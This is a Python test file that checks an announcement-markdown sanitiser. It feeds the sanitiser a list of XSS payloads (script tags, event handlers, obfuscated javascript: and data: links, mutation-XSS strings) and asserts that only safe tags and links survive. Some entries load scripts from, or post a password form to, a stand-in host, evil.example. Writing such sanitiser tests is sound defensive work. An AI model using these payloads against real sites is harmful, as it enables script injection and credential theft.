"""No text of an announcement runs as a script or fetches anything from elsewhere."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from notifications_hub.announcements.markdown import plain, safe_html

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<b onmouseover=alert(1)>x</b>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><input name=password></form>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](/ok/ "onmouseover=alert(1)")',
    '[x](/ok/"onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    "![](x onerror=alert(1))",
    '`<img src=x onerror="alert(1)">`',
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\ncode\n```',
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "# <svg onload=alert(1)>",
    "| <script>alert(1)</script> |\n|---|\n| x |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u0000<script>alert(1)</script>",
    "<scr\u0000ipt>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "*" * 3000,
    "[" * 3000,
    "> " * 500 + "deep",
]
TAGS = {"p", "br", "strong", "em", "a", "ul", "ol", "li", "code", "pre", "blockquote", "h3", "h4", "hr"}


class Seen(HTMLParser):
    """Collects every tag and attribute of a piece of HTML."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str | None]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += attrs


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_stays_text(attack: str) -> None:
    seen = Seen(safe_html(attack))

    assert seen.tags <= TAGS
    assert {name for name, _value in seen.attributes} <= {"href", "rel"}
    for name, value in seen.attributes:
        if name == "href":
            assert value is not None
            assert value.startswith(("/", "http://", "https://", "mailto:")) or ":" not in value


@pytest.mark.parametrize("attack", ATTACKS)
def test_plain_text_gains_no_markup(attack: str) -> None:
    """Plain text may contain `<`, since it is shown as text. It must not gain tags that its author did not write."""
    assert "<p>" not in plain(attack)
    assert "</" not in plain(attack) or "</" in attack or "&lt;" in attack


def test_a_link_sends_no_referrer() -> None:
    assert dict(Seen(safe_html("[x](https://elsewhere.example/)")).attributes)["rel"] == "noopener noreferrer"


def test_markdown_is_html_on_the_page() -> None:
    html = safe_html("**Bold** and *soft*\n\n- one\n- [two](/posts/1/)\n\n`code`")

    assert {"strong", "em", "ul", "li", "a", "code", "p"} == Seen(html).tags


def test_headings_stay_below_those_of_the_page() -> None:
    assert Seen(safe_html("# One\n\n## Two\n\n#### Four")).tags == {"h3", "h4"}


@pytest.mark.parametrize(
    ("written", "words"),
    [
        ("**Bold** and *soft*", "Bold and soft"),
        ("One\n\nTwo", "One\nTwo"),
        ("- one\n- two", "• one\n• two"),
        ("- one\n\n- two", "• one\n• two"),
        ("[the plan](/posts/1/)", "the plan"),
        ("5 < 6 & 7 > 2", "5 < 6 & 7 > 2"),
        ("# Title\n\ntext", "Title\ntext"),
        ("", ""),
    ],
)
def test_other_delivery_methods_get_plain_text(written: str, words: str) -> None:
    assert plain(written) == words
